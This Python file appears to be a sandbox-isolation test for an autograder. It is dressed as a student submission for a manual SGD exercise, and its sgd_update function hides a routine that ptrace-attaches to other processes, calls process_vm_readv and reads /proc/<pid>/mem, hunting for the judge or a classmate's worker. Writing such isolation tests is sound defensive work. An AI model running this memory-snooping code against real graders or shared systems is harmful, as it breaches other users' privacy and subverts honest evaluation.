# attack: ptrace-attach (via ctypes) to every other pid it can name, read /proc/<pid>/mem and use process_vm_readv on them, looking for the judge or a classmate's worker
# holds: the worker's PID namespace holds no other process: every attempt fails (ESRCH/EPERM) and the attacker scores 0
"""Exercise 3: A manual SGD step (attacker: reads other processes' memory)."""

import ctypes
import os

BREACH = "BRE" "ACH!"
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _attack() -> list[str]:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    notes, errors = [], {}
    visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    notes.append(f"visible pids: {visible}")
    for pid in sorted(set(range(2, 400)) | set(visible)):
        if pid == os.getpid():
            continue
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            notes.append(f"{BREACH} ptrace-attached to {pid}")
            libc.ptrace(PTRACE_DETACH, pid, None, None)
        else:
            err = os.strerror(ctypes.get_errno())
            errors[err] = errors.get(err, 0) + 1
        local = ctypes.create_string_buffer(64)
        mine, theirs = IoVec(ctypes.addressof(local), 64), IoVec(0x400000, 64)
        if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            notes.append(f"{BREACH} process_vm_readv read {pid}")
    for pid in visible:
        if pid == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(0x400000)
                f.read(64)
            notes.append(f"{BREACH} read /proc/{pid}/mem")
        except OSError as exc:
            notes.append(f"/proc/{pid}/mem: {exc.strerror}")
    notes.append(f"ptrace errors: {errors}")
    return notes


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + " | ".join(_attack()))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
